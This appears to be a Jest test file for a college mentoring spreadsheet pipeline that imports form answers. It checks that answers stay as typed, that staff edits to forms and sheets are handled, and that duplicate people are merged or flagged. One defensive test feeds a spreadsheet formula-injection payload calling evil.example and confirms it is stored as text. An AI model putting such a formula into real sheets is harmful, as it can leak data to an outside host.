import { DEFAULT_COMPETENCES } from '../../src/core';
import { College, SHEET, menteeAnswers, mentorAnswers } from './pipeline-fixture';

beforeEach(() => {
  jest.spyOn(console, 'error').mockImplementation(() => undefined);
  jest.spyOn(console, 'warn').mockImplementation(() => undefined);
});
afterEach(() => jest.restoreAllMocks());

const EMAIL = 'ivanova@college.example';
const NAME = 'Иванова Мария Петровна';

/** The bank cells of one person's row under these headers, with their formulas. */
function cellsOf(college: College, sheet: string, email: string, headers: string[]) {
  const bank = college.spreadsheet.getSheetByName(sheet)!;
  const values = bank.getDataRange().getValues();
  const row = values.findIndex((r) => r[0] === email) + 1;
  const at = (h: string) => values[0].indexOf(h) + 1;
  return headers.map((h) => {
    const cell = bank.getRange(row, at(h));
    return { value: cell.getValue(), formula: cell.getFormula() };
  });
}

describe('answers that look like formulas or numbers stay exactly as typed', () => {
  it('answers starting with =, +, - or @ are text in the bank, never formulas', () => {
    const college = College.open();
    const typed = {
      Должность: '=IMPORTXML("http://evil.example","//a")',
      'ПЦК / преподаваемые дисциплины': '+ВСЕ дисциплины',
      'Ваш главный профессиональный запрос': '-1 тревожность на занятиях',
      'Телефон для связи': '@ivanova в телеграме',
    };
    college.submit('mentee', menteeAnswers(NAME, typed), EMAIL);
    const cells = cellsOf(college, SHEET.mentees, EMAIL, [
      'Должность',
      'ПЦК / предмет',
      'Главный запрос',
      'Телефон',
    ]);
    expect(cells.map((c) => c.value)).toEqual(Object.values(typed));
    expect(cells.map((c) => c.formula)).toEqual(['', '', '', '']);
  });

  it('phone numbers keep their exact text: leading +, brackets, leading zeros', () => {
    for (const phone of ['+7 (926) 000-00-00', '89260000000', '007']) {
      const college = College.open();
      college.submit('mentee', menteeAnswers(NAME, { 'Телефон для связи': phone }), EMAIL);
      expect(cellsOf(college, SHEET.mentees, EMAIL, ['Телефон'])[0].value).toBe(phone);
    }
  });

  it('a 50,000-character answer lands whole in the bank and whole in the history', () => {
    const college = College.open();
    const long = 'Очень подробный запрос. '.repeat(2100).slice(0, 50_000);
    college.submit('mentee', menteeAnswers(NAME, { 'Ваш главный профессиональный запрос': long }), EMAIL);
    expect(college.row(SHEET.mentees, EMAIL)!['Главный запрос']).toBe(long);
    const json = college
      .rows(SHEET.history)
      .map((r) => String(r['Ответы (JSON)']))
      .join('');
    expect(json).toContain(long);
    expect(college.problems().filter((r) => r['Уровень'] === 'ошибка')).toEqual([]);
  });
});

describe('forms and response sheets staff changed', () => {
  it('a required answer missing (staff made the question optional) keeps the response out of the bank and says what to do', () => {
    const college = College.open();
    const form = college.workspace.services.FormApp.openById(college.forms.mentee);
    const item = form.getItems().find((i) => i.getTitle() === 'Должность')!;
    item.asTextItem().setRequired(false);
    const answers = menteeAnswers(NAME);
    delete answers['Должность'];
    college.submit('mentee', answers, EMAIL);
    expect(college.row(SHEET.mentees, EMAIL)).toBeUndefined();
    const problem = college.problems().find((r) => String(r['Сообщение']).includes('«Должность»'));
    expect(problem).toBeDefined();
    expect(String(problem!['Сообщение'])).toMatch(/лист ответов|заново/);
    // Staff type the answer into the response sheet; the import then takes the response in.
    const sheet = college.responseSheet('mentee');
    const headers = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    sheet.getRange(2, headers.indexOf('Должность') + 1).setValue('преподаватель');
    college.person.clickMenu('Импортировать ответы');
    expect(college.row(SHEET.mentees, EMAIL)!['Должность']).toBe('преподаватель');
  });

  it('a competence label staff changed in the form is kept in «Нераспознанные ответы» and journaled', () => {
    const college = College.open();
    const form = college.workspace.services.FormApp.openById(college.forms.mentor);
    const item = form
      .getItems()
      .find((i) => i.getTitle().startsWith('В каких направлениях'))!
      .asCheckboxItem();
    const labels = DEFAULT_COMPETENCES.map((c) => c.label);
    item.setChoiceValues([...labels, 'работа с одарёнными студентами']);
    college.submit(
      'mentor',
      mentorAnswers('Петров Пётр Петрович', {
        'В каких направлениях вы готовы делиться опытом?': [labels[0], 'работа с одарёнными студентами'],
      }),
      'petrov@college.example',
    );
    const row = college.row(SHEET.mentors, 'petrov@college.example')!;
    expect(String(row['Нераспознанные ответы'])).toContain('работа с одарёнными студентами');
    expect(row[`Готов делиться: ${labels[0]}`]).not.toBe('');
    expect(
      college.problems().some((r) => String(r['Сообщение']).includes('работа с одарёнными студентами')),
    ).toBe(true);
  });

  it('response columns staff reordered are read by header', () => {
    const college = College.open();
    college.deleteSubmitTrigger();
    college.submit('mentee', menteeAnswers(NAME), EMAIL);
    const sheet = college.responseSheet('mentee');
    const values = sheet.getDataRange().getValues();
    // The e-mail column and the ФИО column swap places, with their answers; the last two columns too.
    const n = values[0].length;
    const swapped = values.map((r) => [r[0], r[2], r[1], ...r.slice(3, n - 2), r[n - 1], r[n - 2]]);
    sheet.getRange(1, 1, swapped.length, n).setValues(swapped);
    college.person.clickMenu('Импортировать ответы');
    const row = college.row(SHEET.mentees, EMAIL)!;
    expect(row['ФИО']).toBe(NAME);
    expect(row['Главный запрос']).toBe('Научиться проектировать занятие');
  });

  it('a renamed required response column keeps the responses waiting, says what to do, and they land once restored', () => {
    const college = College.open();
    college.deleteSubmitTrigger();
    college.submit('mentee', menteeAnswers(NAME), EMAIL);
    const sheet = college.responseSheet('mentee');
    const headers = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    const at = headers.indexOf('Должность') + 1;
    sheet.getRange(1, at).setValue('Должность (уточнить)');
    college.person.clickMenu('Импортировать ответы');
    expect(college.row(SHEET.mentees, EMAIL)).toBeUndefined();
    const problem = college
      .problems()
      .find((r) => String(r['Сообщение']).includes('нет столбца «Должность»'));
    expect(String(problem?.['Сообщение'])).toMatch(/Верните столбцу прежнее название/);
    sheet.getRange(1, at).setValue('Должность');
    college.person.clickMenu('Импортировать ответы');
    expect(college.row(SHEET.mentees, EMAIL)!['Должность']).toBe('преподаватель');
  });

  it('a deleted optional response column leaves its bank cells empty, and the rest lands', () => {
    const college = College.open();
    college.deleteSubmitTrigger();
    college.submit('mentee', menteeAnswers(NAME, { 'Телефон для связи': '+7 900 000-00-00' }), EMAIL);
    const sheet = college.responseSheet('mentee');
    const headers = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    sheet.deleteColumn(headers.indexOf('Телефон для связи') + 1);
    college.person.clickMenu('Импортировать ответы');
    const row = college.row(SHEET.mentees, EMAIL)!;
    expect(row['ФИО']).toBe(NAME);
    expect(row['Телефон']).toBe('');
  });

  it('a bank row deleted by hand comes back with the person’s next submission, once', () => {
    const college = College.open();
    college.submit('mentee', menteeAnswers(NAME), EMAIL);
    college.submit('mentee', menteeAnswers('Сидорова Анна Олеговна'), 'sidorova@college.example');
    college.spreadsheet.getSheetByName(SHEET.mentees)!.deleteRow(2);
    expect(college.row(SHEET.mentees, EMAIL)).toBeUndefined();
    college.submit('mentee', menteeAnswers(NAME, { Должность: 'методист' }), EMAIL);
    const rows = college.rows(SHEET.mentees);
    expect(rows.map((r) => r['Эл. почта'])).toEqual(['sidorova@college.example', EMAIL]);
    expect(rows[1]['Должность']).toBe('методист');
  });
});

describe('people', () => {
  it('the same person submitting twice within a second keeps one row with the later answers', () => {
    const college = College.open();
    const at = college.workspace.kernel.clock.now() + 60_000;
    college.submit('mentee', menteeAnswers(NAME), EMAIL, new Date(at));
    college.submit('mentee', menteeAnswers(NAME, { Должность: 'методист' }), EMAIL, new Date(at + 400));
    const rows = college.rows(SHEET.mentees);
    expect(rows).toHaveLength(1);
    expect(rows[0]['Должность']).toBe('методист');
    expect(college.rows(SHEET.history)).toHaveLength(2);
  });

  it('two different people with one e-mail are not merged: the history says «конфликт», the journal what to do', () => {
    const college = College.open();
    college.submit('mentee', menteeAnswers(NAME), EMAIL);
    college.submit('mentee', menteeAnswers('Петров Пётр Петрович'), EMAIL);
    const rows = college.rows(SHEET.mentees);
    expect(rows).toHaveLength(1);
    expect(rows[0]['ФИО']).toBe(NAME);
    expect(college.rows(SHEET.history).map((r) => r['Результат'])).toEqual(['добавлен в банк', 'конфликт']);
    expect(college.problems().some((r) => String(r['Сообщение']).includes('Петров'))).toBe(true);
  });

  it('e-mail case and whitespace variants are one person', () => {
    const college = College.open();
    college.submit('mentee', menteeAnswers(NAME), ' Ivanova@College.Example');
    college.submit('mentee', menteeAnswers(NAME, { Должность: 'методист' }), 'IVANOVA@college.example  ');
    const rows = college.rows(SHEET.mentees);
    expect(rows.map((r) => r['Эл. почта'])).toEqual([EMAIL]);
    expect(rows[0]['Должность']).toBe('методист');
  });

  it('Latin look-alike letters inside a Cyrillic name are corrected, and the person is recognised', () => {
    const college = College.open();
    // «a», «o», «e», «p» below are Latin.
    college.submit('mentee', menteeAnswers('Ивaновa Мapия Петpовнa'), EMAIL);
    expect(college.row(SHEET.mentees, EMAIL)!['ФИО']).toBe(NAME);
    college.submit('mentee', menteeAnswers(NAME, { Должность: 'методист' }), EMAIL);
    expect(college.rows(SHEET.mentees)).toHaveLength(1);
    expect(college.rows(SHEET.history).map((r) => r['Результат'])).not.toContain('конфликт');
  });
});
